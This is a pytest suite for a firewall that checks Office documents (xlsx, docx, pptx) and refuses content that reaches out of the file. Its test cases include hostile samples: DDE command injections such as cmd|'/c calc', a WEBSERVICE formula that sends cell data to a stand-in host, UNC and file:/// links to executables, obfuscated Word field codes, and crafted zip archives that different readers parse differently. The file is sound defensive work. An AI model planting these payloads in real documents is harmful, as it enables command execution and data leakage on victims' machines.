"""Documents judged by structure: what reaches out is refused wherever it stands, what only looks like it passes."""

from __future__ import annotations

import base64
import io
import re
import struct
import time
import zipfile
from collections.abc import Callable
from typing import Any

import docx
import openpyxl
import pikepdf
import pptx
import pytest
import xlsxwriter
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from openpyxl.worksheet.table import Table
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Inches
from reportlab.pdfgen.canvas import Canvas

from analyst_magic.documents import check, package
from analyst_magic.errors import FirewallError

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
OFFICE = "application/vnd.openxmlformats-officedocument"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET_TYPE = f"{OFFICE}.spreadsheetml.worksheet+xml"


def refused(format: str, data: bytes, reason: str = "") -> None:
    with pytest.raises(FirewallError, match=reason):
        check(format, data)


def saved(document: Any) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def rewritten(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    parts = parts_of(data)
    parts[part] = change(parts[part])
    return packed(parts)


def with_part(data: bytes, owner: str, kind: str, name: str, content: bytes, type: str, target: str = "") -> bytes:
    """The package with one more part, which a relationship of ``owner`` leads to."""
    parts = parts_of(data)
    folder, _, base = owner.rpartition("/")
    rels = f"{folder}/_rels/{base}.rels" if owner else "_rels/.rels"
    head = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    kind = kind if ":" in kind else f"{RELATIONS}/{kind}"
    link = f'<Relationship Id="rId900" Type="{kind}" Target="{target or "/" + name}"/></Relationships>'
    parts[rels] = parts.get(rels, head).replace(b"</Relationships>", link.encode())
    override = f'<Override PartName="/{name}" ContentType="{type}"/></Types>' if type else "</Types>"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override.encode())
    parts[name] = content
    return packed(parts)


def book(*formulas: str, title: str = "Sheet") -> bytes:
    made = openpyxl.Workbook()
    made.active.title = title
    for formula in formulas:
        made.active.append([formula])
    return saved(made)


def sheet(formula: str) -> bytes:
    text = formula.replace("&", "&amp;").replace("<", "&lt;")
    cell = f'<c r="A1"><f>{text}</f></c>'
    return f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">{cell}</row></sheetData></worksheet>'.encode()


# -- packages ----------------------------------------------------------------------------------------------------------

CALL = 'WEBSERVICE("http://x.test/?"&amp;A2)'.replace("&amp;", "&")


@pytest.mark.parametrize(
    "name", ["sheet9.dat", "sheet9.data", "sheet9.png", "sheet9", "sheet9.xml", "media/image1.jpeg"]
)
@pytest.mark.parametrize("type", [SHEET_TYPE, "image/png", "application/octet-stream", ""])
def test_a_sheet_is_read_whatever_its_name_and_its_type(name: str, type: str) -> None:
    refused("xlsx", with_part(book("1"), "xl/workbook.xml", "worksheet", f"xl/worksheets/{name}", sheet(CALL), type))


def test_a_harmless_sheet_of_another_name_passes() -> None:
    data = with_part(
        book("1"), "xl/workbook.xml", "worksheet", "xl/worksheets/sheet9.dat", sheet("SUM(A2:A3)"), SHEET_TYPE
    )
    assert check("xlsx", data).extent == "2 sheets"


@pytest.mark.parametrize(
    "target", ["worksheets/sheet9%2Exml", "..%2fxl/worksheets/sheet9.xml", "worksheets/SHEET9.xml"]
)
def test_a_target_that_readers_decode_differently_is_refused(target: str) -> None:
    name = "xl/worksheets/sheet9.xml"
    refused(
        "xlsx", with_part(book("1"), "xl/workbook.xml", "worksheet", name, sheet("1"), SHEET_TYPE, target), "missing"
    )


@pytest.mark.parametrize(
    "name", ["xl/a%2Exml", "xl\\a.xml", "xl//a.xml", "xl/./a.xml", "xl/\u00e4.xml", "xl/a\u200b.xml", "C:/a.xml"]
)
def test_names_that_readers_take_differently_are_refused(name: str) -> None:
    refused("xlsx", packed({**parts_of(book("1")), name: b"<a/>"}), "part")


@pytest.mark.parametrize(
    ("kind", "content", "type", "reason"),
    [
        ("oleObject", b"MZ", f"{OFFICE}.oleObject", "OLE"),
        ("package", b"PK", f"{OFFICE}.spreadsheetml.sheet", "embedded"),
        ("control", b"<a/>", "application/vnd.ms-office.activeX+xml", "ActiveX"),
        ("connections", b"<connections/>", f"{OFFICE}.spreadsheetml.connections+xml", "data connection"),
        ("queryTable", b"<queryTable/>", f"{OFFICE}.spreadsheetml.queryTable+xml", "data connection"),
        ("externalLink", b"<externalLink/>", f"{OFFICE}.spreadsheetml.externalLink+xml", "another workbook"),
        ("volatileDependencies", b"<volTypes/>", f"{OFFICE}.spreadsheetml.volatileDependencies+xml", "connection"),
        ("video", b"x", "video/mp4", "video"),
        ("audio", b"x", "audio/mpeg", "video"),
        (f"{MICROSOFT}/2006/relationships/xlMacrosheet", b"<a/>", "application/xml", "unknown"),
        (f"{MICROSOFT}/2011/relationships/webextension", b"<a/>", "application/xml", "add-in"),
        (f"{MICROSOFT}/2006/relationships/ui/extensibility", b"<a/>", "application/xml", "ribbon"),
        ("http://x.test/own", b"<a/>", "application/xml", "unknown"),
        ("image", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "image/svg+xml", "SVG"),
        ("image", sheet(CALL), "image/png", "picture"),
        ("customXml", b"<DataMashup xmlns='urn:DataMashup'>UEsD</DataMashup>", "application/xml",
         "data connection"),
        ("printerSettings", "\\\\host\\a".encode("utf-16-le"), f"{OFFICE}.spreadsheetml.printerSettings", "not what"),
        ("worksheet", b"<?mso-application progid='Word.Document'?><worksheet/>", SHEET_TYPE, "another program"),
        ("worksheet", b"<!DOCTYPE a SYSTEM 'http://x.test/a.dtd'><worksheet/>", SHEET_TYPE, "entities"),
    ],
)  # fmt: skip
def test_parts_that_act_or_are_not_known_are_refused(kind: str, content: bytes, type: str, reason: str) -> None:
    refused("xlsx", with_part(book("1"), "xl/workbook.xml", kind, "xl/extra/a1.dat", content, type), reason)


@pytest.mark.parametrize(
    "space",
    ["http://schemas.openxmlformats.org/drawingml/2006/diagram", "http://purl.oclc.org/ooxml/drawingml/diagram"],
)
def test_the_data_of_smart_art_is_no_data_connection(space: str) -> None:
    data, type = (
        f'<d:dataModel xmlns:d="{space}"><d:ptLst/></d:dataModel>'.encode(),
        f"{OFFICE}.drawingml.diagramData+xml",
    )
    check(
        "docx", with_part(saved(docx.Document()), "word/document.xml", "diagramData", "word/diagrams/d.xml", data, type)
    )
    other = data.replace(space.encode(), b"http://schemas.microsoft.com/office/spreadsheetml/2010/11/main")
    refused("xlsx", with_part(book("1"), "xl/workbook.xml", "diagramData", "xl/d.xml", other, type), "data connection")


def test_properties_are_known_by_the_name_of_the_strict_form_too() -> None:
    strict = saved(docx.Document())
    data = rewritten(strict, "_rels/.rels", lambda text: text.replace(b"extended-properties", b"extendedProperties"))
    assert check("docx", data)


def test_a_part_that_nothing_leads_to_is_refused() -> None:
    refused("xlsx", packed({**parts_of(book("1")), "xl/worksheets/sheet7.xml": sheet("1")}), "nothing in it leads")


def zip_with_two_headers(data: bytes) -> bytes:
    """The local header of the sheet says another name than the directory."""
    at = data.index(b"xl/worksheets/sheet1.xml")
    return data[:at] + b"xl/worksheets/sheet2.xml" + data[at + 24 :]


def zip_with_another_size(data: bytes) -> bytes:
    at = data.index(b"PK\x03\x04") + 18
    return data[:at] + struct.pack("<L", 7) + data[at + 4 :]


def zip_with_a_hidden_entry(data: bytes) -> bytes:
    other = packed({"xl/evil.xml": b"<a/>"})
    hidden = other[: other.index(b"PK\x01\x02")]
    directory, end = data.index(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    moved = data[:directory] + hidden + data[directory:end]
    tail = bytearray(data[end:])
    struct.pack_into("<L", tail, 16, directory + len(hidden))
    return moved + bytes(tail)


@pytest.mark.parametrize(
    "change",
    [
        zip_with_two_headers,
        zip_with_another_size,
        zip_with_a_hidden_entry,
        lambda data: b"PK\x03\x04 in front " + data,
        lambda data: data + data,
        lambda data: data[:-2] + b"\x04\x00more",
    ],
)
def test_an_archive_that_readers_take_differently_is_refused(change: Callable[[bytes], bytes]) -> None:
    refused("xlsx", change(book("1")), "zip archive")


def test_a_workbook_within_a_chart_is_read_too() -> None:
    deck = pptx.Presentation()
    data = CategoryChartData()
    data.categories = ["a", "b"]
    data.add_series("x", (1, 2))
    size = [Inches(number) for number in (1, 1, 4, 3)]
    deck.slides.add_slide(deck.slide_layouts[6]).shapes.add_chart(XL_CHART_TYPE.PIE, *size, data)
    good = saved(deck)
    assert check("pptx", good).extent == "1 slide"
    (inner,) = [name for name in parts_of(good) if name.endswith(".xlsx")]
    refused("pptx", rewritten(good, inner, lambda _: book(f"={CALL}")), "WEBSERVICE")


def deck_of_charts(count: int, workbook: Callable[[bytes], bytes] = lambda data: data) -> bytes:
    """A deck with a chart on each slide, whose workbooks are changed."""
    deck = pptx.Presentation()
    figures = CategoryChartData()
    figures.categories = [f"store {number}" for number in range(40)]
    figures.add_series("revenue", range(40))
    for _ in range(count):
        slide = deck.slides.add_slide(deck.slide_layouts[6])
        slide.shapes.add_chart(XL_CHART_TYPE.LINE, 0, 0, Inches(4), Inches(3), figures)
    parts = parts_of(saved(deck))
    return packed({name: workbook(data) if name.endswith(".xlsx") else data for name, data in parts.items()})


def with_blank_sheet(megabytes: int) -> Callable[[bytes], bytes]:
    """Makes a sheet larger by spaces, which any reader unpacks and none sees."""
    spaces = b" " * (megabytes * 1_000_000)
    return lambda data: rewritten(data, "xl/worksheets/sheet1.xml", lambda sheet: sheet + spaces)


def test_a_deck_with_many_charts_passes() -> None:
    assert check("pptx", deck_of_charts(120)).extent == "120 slides"


def test_workbooks_in_charts_share_what_their_deck_may_unpack_to() -> None:
    swollen = with_blank_sheet(9)
    assert check("pptx", deck_of_charts(1, swollen)).extent == "1 slide"  # none of them is too much by itself
    refused("pptx", deck_of_charts(60, swollen), "it unpacks to [0-9]+ times its size")


def test_workbooks_in_charts_share_the_number_of_parts(monkeypatch: pytest.MonkeyPatch) -> None:
    data = deck_of_charts(30)
    monkeypatch.setattr(package, "MAX_PARTS", 250)
    assert len(parts_of(data)) < 250
    refused("pptx", data, "parts")


def test_a_link_that_is_followed_without_a_click_is_refused() -> None:
    deck = pptx.Presentation()
    box = deck.slides.add_slide(deck.slide_layouts[6]).shapes.add_textbox(0, 0, 9, 9)
    box.click_action.hyperlink.address = "https://example.org"
    data = saved(deck)
    check("pptx", data)
    refused(
        "pptx",
        rewritten(data, "ppt/slides/slide1.xml", lambda text: text.replace(b"hlinkClick", b"hlinkHover")),
        "without a click",
    )


@pytest.mark.parametrize(
    ("action", "reason"),
    [
        ("ppaction://program", "click"),
        ("ppaction://macro?name=x", "click"),
        ("ppaction://hlinkfile", "click"),
        ("ppaction://hlinkpres?slideindex=1", "click"),
        ("ppaction://ole?verb=0", "click"),
        ("ppaction://hlinkshowjump?jump=nextslide", ""),
        ("ppaction://hlinksldjump", ""),
        ("ppaction://noaction", ""),
    ],
)
def test_of_a_slides_actions_only_those_within_the_show_pass(action: str, reason: str) -> None:
    deck = pptx.Presentation()
    deck.slides.add_slide(deck.slide_layouts[6]).shapes.add_textbox(0, 0, 9, 9).name = "click me"
    link = f'<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="{action}"/>'.encode()
    data = rewritten(
        saved(deck),
        "ppt/slides/slide1.xml",
        lambda text: text.replace(b'name="click me"/>', b'name="x">' + link + b"</p:cNvPr>"),
    )
    assert action.encode() in parts_of(data)["ppt/slides/slide1.xml"]
    if reason:
        refused("pptx", data, reason)
    else:
        check("pptx", data)


# -- formulas ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "formula",
    [
        "='\"'!A1&WEBSERVICE(\"http://x.test/\"&B1)&'\"'!A1",
        "=_xlfn.WEBSERVICE(A1)",
        "=WEBSERVICE (A1)",
        "=@WEBSERVICE(A1)",
        "=(CALL)(2)",
        "=_xlfn.BYROW(A1:A3,_xleta.WEBSERVICE)",
        "=_xlfn.MAP(A1:A3,WEBSERVICE)",
        "=_xlfn.LET(_xlpm.f,WEBSERVICE,_xlpm.f(A1))",
        "=_xlfn.IMAGE(A1)",
        "=FILTERXML(A1,A2)",
        "=CUBEVALUE(\"c\",A1)",
        "=_xlfn.STOCKHISTORY(\"MSFT\",1)",
        "=_xlfn.TRANSLATE(A1)",
        "=BDP(\"IBM US Equity\",\"PX_LAST\")",
        "=_xll.ADDIN(A1)",
        "=REGISTER.ID(\"a\",\"b\")",
        "=cmd|'/c calc'!A0",
        "='cmd'|'/c calc'!A0",
        "='cmd|/c calc'!A0",
        "=[1]Sheet1!A1",
        "='[other.xlsx]Sheet 1'!A1",
        "=[other.xlsx]!Name",
        "='file:///c:/x.ods'#$Sheet1.A1",
        "='\\\\host\\share\\[a.xlsx]S'!A1",
        "=INDIRECT(\"'http://x.test/[a.xlsx]S'!A1\")",
        "=INDIRECT(\"[a.xlsx]S!\"&A1)",
        '=HYPERLINK("\\\\srv\\share\\x.exe","open")',
        '=HYPERLINK("file:///C:/Windows/calc.exe","open")',
        '=HYPERLINK("javascript:alert(1)")',
        '=HYPERLINK("ms-word:ofe|u|https://x.test/x.docm","open")',
        '=HYPERLINK("annex.pdf")',
        '=HYPERLINK("fi"&"le:///c:/x")',
        '=HYPERLINK("\\\\"&A1)',
        "=HYPERLINK(CHAR(92)&CHAR(92)&A1)",
        '=HYPERLINK(IF(A1>1,"file:///c:/x","https://x.test"))',
        '=_xlfn.MAP("file:///c:/x",_xleta.HYPERLINK)',
        "=_xlfn.BYROW(A1:A3,_xlfn._xleta.HYPERLINK)",
        '=_xlfn.LET(_xlpm.h,HYPERLINK,_xlpm.h("file:///c:/x"))',
        "=_xlfn.MAP(\"'\\\\srv\\[x.xlsx]S'!A1\",_xleta.INDIRECT)",
        "=SUM(A1 [1]Sheet1!A1)",
        "='x.ods'#$Sheet1.A1",
        '=HYPERLINK(INFO("directory")&"x.exe")',
        '=HYPERLINK(CELL("filename"))',
        '=HYPERLINK("f"&MID(TEXT(0,"h:mm"),2,1)&A1)+0*LEN(HYPERLINK(A2))',
        '=1+"',
        "='open!A1",
    ],
)  # fmt: skip
def test_formulas_that_reach_out_are_refused(formula: str) -> None:
    made = openpyxl.Workbook()
    made.active["A1"] = "=1"
    data = rewritten(saved(made), "xl/worksheets/sheet1.xml", lambda text: re.sub(rb"<f>1</f>", lambda _: b"<f>" + (
        formula[1:].replace("&", "&amp;").replace("<", "&lt;").encode() + b"</f>"), text))  # fmt: skip
    refused("xlsx", data)


HONEST_FORMULAS = [
    '=HYPERLINK("https://x.org/"&A1,"open")',
    "=HYPERLINK(C2)",
    '=HYPERLINK("#"&CELL("address",A1),"go")',
    '=HYPERLINK("#\'Run (2024)\'!A1","go")',
    '=HYPERLINK("mailto:a@example.org?subject="&A1)',
    '=HYPERLINK(IF(A1="","","https://x.org/"&A1),"o")',
    "=HYPERLINK($C$2&A1)",
    '=DAY(A1)&"/"&MONTH(A1)&TEXT(A1," hh:mm")',
    "=SUM(A1:B2 B1:C3)",
    "=Table1[export.csv] Table1[b]",
    "='Run (2024)'!A1+'call (north)'!A1",
    "=GETPIVOTDATA(\"x\",A1)",
    "=SUM(Table1[export.csv])",
    "=SUM(Table1[[#This Row],[export.csv]])",
    '=TEXT(A1,"yyyy-mm-dd hh:mm")&" | [x.xlsx] a!b WEBSERVICE(1)"',
    "=_xlfn.STDEV.S(A1:A9)/MAX(1,COUNT($A$1:$A$9))",
    "=SUM({1,2;3,4})*50%",
    "=_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1)(5)",
    "=INDIRECT(\"A\"&A1)",
    "=#REF!+1",
    "=3*Call-Run",
    "=ToCelsius(212)",
    "=SUM(A:A)+SUM(1:2)",
    "=A1#",
    '=_xlfn.REDUCE("",A1:A3,_xleta.CONCAT)',
    "=_xlfn.MAP(A1:A3,_xlfn.LAMBDA(_xlpm.x,_xlpm.x*2))",
]  # fmt: skip


def test_formulas_that_only_look_like_it_pass() -> None:
    made = openpyxl.Workbook()
    made.active.title = "Run (2024)"
    made.active.append(["export.csv", "b", "url"])
    made.active.append([1, 2, "https://example.org/1"])
    made.active.add_table(Table(displayName="Table1", ref="A1:C2"))
    other = made.create_sheet("call (north)")
    for row, formula in enumerate(HONEST_FORMULAS, start=1):
        other.cell(row, 5, formula)
    for name, text in (("Call", "$A$1"), ("Run", "$A$2"), ("ToCelsius", "_xlfn.LAMBDA(_xlpm.f,(_xlpm.f-32)*5/9)")):
        made.defined_names[name] = openpyxl.workbook.defined_name.DefinedName(name, attr_text=text)
    for row, address in enumerate(["tel:+49 30 123", "mailto:a@example.org", "https://example.org/a?b=c#d"], start=1):
        other.cell(row, 7, "link").hyperlink = address
    assert check("xlsx", saved(made)).extent == "2 sheets"


@pytest.mark.parametrize(
    "text", ["\\\\srv\\share\\x.exe", "file:///c:/x", "javascript:x", "\u200bfile:x", "ms-word:ofe|u|x"]
)
def test_a_link_that_is_taken_from_a_cell_is_judged_by_the_cells(text: str) -> None:
    refused("xlsx", book(text, "=HYPERLINK(A1)"), "leads neither")
    assert check("xlsx", book(text, "=LEN(A1)"))


@pytest.mark.parametrize(
    ("formula", "texts"),
    [
        ("=HYPERLINK(A1&A2)", ("file", "://srv/share/x.exe")),
        ("=HYPERLINK(A1&A2)", ("\\", "\\srv\\x")),
        ("=HYPERLINK(CONCATENATE(A1,A2))", ("javas", "cript:alert(1)")),
        ("=HYPERLINK(SUBSTITUTE(A1,A2,A3))", ("f!ile://srv/x", "!")),
        ("=INDIRECT(A1&A2)", ("[x.xlsx", "]S!A1")),
        ("=INDIRECT(ADDRESS(1,1,1,1,A1))", ("C:\\[x.xlsx]S",)),
    ],
)
def test_an_address_in_parts_over_several_cells_is_refused(formula: str, texts: tuple[str, ...]) -> None:
    refused("xlsx", book(*texts, formula), "leads neither|reaches out")


def test_texts_with_colons_and_brackets_pass_beside_links_that_are_joined() -> None:
    words = ("https://example.org/", "Total:", "12:30", "and/or", "Run (2024)", "Sales [EUR]", "Ratio: 3:4")
    check("xlsx", book(*words, "=HYPERLINK(A1&B1)", '=INDIRECT("\'"&A5&"\'!A1")'))


def test_a_text_in_several_fonts_is_one_text() -> None:
    runs = b"<is><rPh sb='0' eb='1'><t>x</t></rPh><r><t>fi</t></r><r><t>le:///c:/x</t></r></is>"
    cell = b'<row r="9"><c r="A9" t="inlineStr">' + runs + b"</c></row></sheetData>"
    data = book("=HYPERLINK(A9)")
    check("xlsx", data)
    refused("xlsx", rewritten(data, "xl/worksheets/sheet1.xml", lambda text: text.replace(b"</sheetData>", cell)))


@pytest.mark.parametrize(
    "change",
    [
        (b"<sheetData", b'<conditionalFormatting sqref="A1"><cfRule type="iconSet"><iconSet><cfvo type="formula" '
                        b'val="WEBSERVICE(A1)"/></iconSet></cfRule></conditionalFormatting><sheetData'),
        (b"<sheetData", b'<dataValidations><dataValidation><formula1>RTD("a",,"b")</formula1></dataValidation>'
                        b"</dataValidations><sheetData"),
        (b"<sheetData", b'<sheetPr><webPublishItem destinationFile="\\\\host\\a.htm"/></sheetPr><sheetData'),
        (b"<sheetData", b'<legacy macro="[0]!run"/><sheetData'),
        (b"<sheetData", b"""<scenarios><inputCells r="A1" val="=cmd|'/c calc'!A0"/></scenarios><sheetData"""),
        (b"<sheetData", b'<oleObjects><oleObject progId="Package"/></oleObjects><sheetData'),
        (b"<sheetData", b'<shape xmlns="urn:schemas-microsoft-com:vml" href="file:///c:/x"/><sheetData'),
        (b"<sheetData", b'<imagedata xmlns="urn:schemas-microsoft-com:vml" src="http://x.test/a.png"/><sheetData'),
        (b"<sheetData", b'<x xmlns="urn:schemas-microsoft-com:office:excel"><FmlaMacro>run</FmlaMacro></x><sheetData'),
        (b"<sheetData", b'<ext xmlns="urn:x"><f>WEBSERVICE(A1)</f></ext><sheetData'),
        (b"<sheetData", b"<ext><f>SUM(A1<x/>)</f></ext><sheetData"),
        (b"<sheetData", b"<ext><f>WEB<!-- x -->SERVICE(A1)</f></ext><sheetData"),
        (b"<sheetData", b"<ext><f>WEB<![CDATA[SERVICE(]]>A1)</f></ext><sheetData"),
        (b"<sheetData", b'<hyperlinks><hyperlink ref="A1" location="\\\\host\\share"/></hyperlinks><sheetData'),
        (b"<sheetData", b'<hyperlinks><hyperlink ref="A1" location="[other.xlsx]S!A1"/></hyperlinks><sheetData'),
        (b"<sheetData", b'<shape xmlns="urn:schemas-microsoft-com:vml" style="behavior:url(http://x.test/a)"/><sheetData'),
    ],
)  # fmt: skip
def test_what_reaches_out_is_refused_wherever_it_stands_in_a_sheet(change: tuple[bytes, bytes]) -> None:
    data = rewritten(book("1"), "xl/worksheets/sheet1.xml", lambda text: text.replace(change[0], change[1], 1))
    refused("xlsx", data)


@pytest.mark.parametrize("tricks", [b"<!-- -{}-> -->", b"<!--{}-->", b"<![CDATA[{}]]>"])
def test_nothing_hides_among_many_plain_cells(tricks: bytes) -> None:
    """Plain cells of large sheets are passed over as they are; what stands between them is read all the same."""
    cells = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (n, n, n) for n in range(1, 5_000))
    before, after = tricks.split(b"{}")
    hidden = before + b'<c r="A1"><v>1</v></c>' + after
    evil = b'<row r="9000"><c r="A9000"><f>WEBSERVICE(A1)</f></c></row>'
    text = (
        b'<worksheet xmlns="'
        + MAIN.encode()
        + b'"><sheetData>'
        + cells
        + hidden
        + evil
        + cells
        + b"</sheetData></worksheet>"
    )
    refused("xlsx", rewritten(book("1"), "xl/worksheets/sheet1.xml", lambda _: text))


def test_a_formula_among_very_many_is_judged() -> None:
    rows = [f"=IF(A{number}>3,A{number}*2,0)" for number in range(1, 4_000)]
    assert check("xlsx", book(*rows)).extent == "1 sheet"
    refused("xlsx", book(*rows, f"={CALL}", *rows), "WEBSERVICE")


def test_a_large_sheet_is_checked_in_a_fraction_of_the_time_that_it_takes_to_write() -> None:
    buffer = io.BytesIO()
    started = time.process_time()
    made = xlsxwriter.Workbook(buffer, {"in_memory": True})
    lines = made.add_worksheet()
    for row in range(50_000):
        lines.write_row(row, 0, [row, f"name {row}", row * 1.5])
    made.close()
    written = time.process_time()
    assert check("xlsx", buffer.getvalue()).extent == "1 sheet"
    assert time.process_time() - written < (written - started) / 2


# -- fields of Word ----------------------------------------------------------------------------------------------------

BEGIN, SEPARATE, END = ({"mark": kind} for kind in ("begin", "separate", "end"))


def story(*pieces: Any, footer: bool = False) -> bytes:
    """A document with one paragraph: marks of fields, codes (in a list), and text."""
    document = docx.Document()
    place = document.sections[0].footer if footer else document
    paragraph = place.add_paragraph()
    for piece in pieces:
        run = paragraph.add_run("" if not isinstance(piece, str) else piece)
        if isinstance(piece, dict):
            mark = OxmlElement("w:fldChar")
            mark.set(qn("w:fldCharType"), piece["mark"])
            run._r.append(mark)
        elif isinstance(piece, list):
            for text in piece:
                code = OxmlElement("w:instrText")
                code.text = text
                run._r.append(code)
    return saved(document)


REFUSED_FIELDS: dict[str, tuple[Any, ...]] = {
    "after visible text": ("abc", BEGIN, ["DDEAUTO c:\\x.exe"], END),
    "in pieces": (BEGIN, ["DDE"], ["AUTO"], [" x"], END),
    "with a result": (BEGIN, ["INCLUDEPICTURE \"http://x.test/a.png\""], SEPARATE, "1", END),
    "text as code": (BEGIN, "INCLUDETEXT x", END),
    "within a result": (BEGIN, ["PAGE"], SEPARATE, "1", BEGIN, ["LINK Excel.Sheet x"], END, END),
    "within a code": (BEGIN, ["HYPERLINK "], BEGIN, ["PAGE"], END, END),
    "put together": (BEGIN, BEGIN, ["QUOTE 68 68 69"], END, [" x"], END),
    "character codes": (BEGIN, ["QUOTE 68 68 69"], END),
    "quoted": (BEGIN, ['"DDEAUTO" x'], END),
    "INCLUDE": (BEGIN, ["INCLUDE x"], END),
    "IMPORT": (BEGIN, ["import x"], END),
    "EMBED": (BEGIN, ["EMBED Package"], END),
    "MACROBUTTON": (BEGIN, ["MACROBUTTON x y"], END),
    "not known": (BEGIN, ["NEWFIELD x"], END),
    "file link": (BEGIN, ['HYPERLINK "file:///c:/x.exe"'], END),
    "share": (BEGIN, ["HYPERLINK \\\\\\\\host\\\\share"], END),
    "file link after a switch": (BEGIN, ['HYPERLINK \\l "a" \\n "file:///x"'], END),
    "not ended": ("x", BEGIN, ["PAGE"]),
    "not begun": ("x", ["DDEAUTO x"]),
    "ended twice": (BEGIN, ["PAGE"], END, END),
}  # fmt: skip


@pytest.mark.parametrize("footer", [False, True], ids=["body", "footer"])
@pytest.mark.parametrize("name", REFUSED_FIELDS)
def test_fields_that_reach_out_are_refused(name: str, footer: bool) -> None:
    refused("docx", story(*REFUSED_FIELDS[name], footer=footer), "field|link")


SHAPE = base64.b64encode(packed({"_rels/.rels": b"TargetMode=External"})).decode()


@pytest.mark.parametrize(
    "xml",
    [
        '<w:r><w:delInstrText>DDEAUTO x</w:delInstrText></w:r>',
        '<w:fldSimple w:instr="INCLUDEPICTURE x"/>',
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>'
        '<w:r><w:instrText>DDEAUTO x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><mc:AlternateContent><mc:Choice Requires="x"><w:r>'
        "<w:instrText>PAGE </w:instrText></w:r></mc:Choice>"
        "<mc:Fallback><w:r><w:instrText>DDEAUTO</w:instrText></w:r></mc:Fallback>"
        '</mc:AlternateContent><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        '<w:altChunk r:id="rId1"/>',
        '<w:object><o:OLEObject/></w:object>',
        '<w:control r:id="rId1"/>',
        '<w:hyperlink w:anchor="x"><w:r><w:pict><v:shape href="file:///x"/></w:pict></w:r></w:hyperlink>',
        '<w:r><w:pict><v:shape><v:imagedata o:href="https://x.test/a.png"/></v:shape></w:pict></w:r>',
        f'<w:r><w:pict><v:shape o:gfxdata="{SHAPE}"/></w:pict></w:r>',
        '<w:r><w:pict><v:rect style="left:0;background:URL (http://x.test/a)"/></w:pict></w:r>',
        '<w:r><w:pict><v:shape><o:signatureline sigprovurl="file:///x"/></v:shape></w:pict></w:r>',
        '<w:hyperlink w:docLocation="file:///c:/x" w:anchor="a"/>',
    ],
)  # fmt: skip
def test_what_reaches_out_is_refused_wherever_it_stands_in_a_document(xml: str) -> None:
    document = docx.Document()
    names = (
        f'{nsdecls("w", "r")} xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    )
    document.element.body.insert(0, parse_xml(f"<w:p {names}>{xml}</w:p>"))
    refused("docx", saved(document))


def test_settings_that_reach_out_are_refused() -> None:
    names = 'xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"'
    schema = '<sl:schema sl:uri="urn:x" sl:manifestLocation="http://x.test/m.xml"/>'
    for xml in (
        "<w:mailMerge/>", '<w:attachedTemplate r:id="rId1"/>', '<w:saveThroughXslt r:id="rId1"/>',
        '<w:smartTagType w:namespaceuri="urn:x" w:name="x" w:url="http://x.test/a"/>',
        f"<sl:schemaLibrary {names}>{schema}</sl:schemaLibrary>",
    ):  # fmt: skip
        document = docx.Document()
        inner = parse_xml(f"<w:x {nsdecls('w', 'r')}>{xml}</w:x>")
        document.settings.element.append(inner[0])
        refused("docx", saved(document))


HONEST_FIELDS: tuple[tuple[Any, ...], ...] = (
    ("Page ", BEGIN, [" PAGE "], END, " of ", BEGIN, ["NUMPAGES"], SEPARATE, "3", END, ". See the link below."),
    (BEGIN, [' TOC \\o "1-3" \\h \\z \\u '], SEPARATE, "Import of the DATABASE", BEGIN, [" PAGEREF _1 \\h "], END, END),
    ("Figure ", BEGIN, [" SEQ Figure \\* ARABIC "], END, ": LINK, IMPORT, RD, DDEAUTO"),
    (BEGIN, ['HYPERLINK "https://example.org/a?b=c" \\o "a tip: here"'], SEPARATE, "site", END),
    (BEGIN, ["HYPERLINK \\l bookmark"], SEPARATE, "there", END),
    (BEGIN, [" IF "], BEGIN, ["PAGE"], END, [' = 1 "first" "other" '], END),
    (BEGIN, ["= "], BEGIN, ["NUMPAGES"], END, [" - 1"], END),
    (BEGIN, ['DATE \\@ "d MMMM yyyy"'], END, BEGIN, ["FORMTEXT"], SEPARATE, "value", END),
    (BEGIN, ["mergefield name"], END),
    (BEGIN, ["SHAPE \\* MERGEFORMAT"], SEPARATE, "x", END, BEGIN, ["MACROBUTTON NoMacro [Click here]"], END),
    (BEGIN, [' ADDIN ZOTERO_ITEM CSL_CITATION {"id": "x"} '], SEPARATE, "(Knuth 1984)", END),
    (BEGIN, [" ADDIN EN.CITE "], BEGIN, [" ADDIN EN.CITE.DATA "], END, SEPARATE, "(1)", END),
    (BEGIN, ['BARCODE "DE 10117" \\u'], END, BEGIN, ['AUTOTEXTLIST "Name" \\t "a tip"'], SEPARATE, "Name", END),
    (BEGIN, ['SET total "5"'], END, BEGIN, ["USERADDRESS"], END, BEGIN, ["NEXT"], END, BEGIN, ["TEMPLATE"], END),
)


@pytest.mark.parametrize("footer", [False, True], ids=["body", "footer"])
@pytest.mark.parametrize("pieces", HONEST_FIELDS)
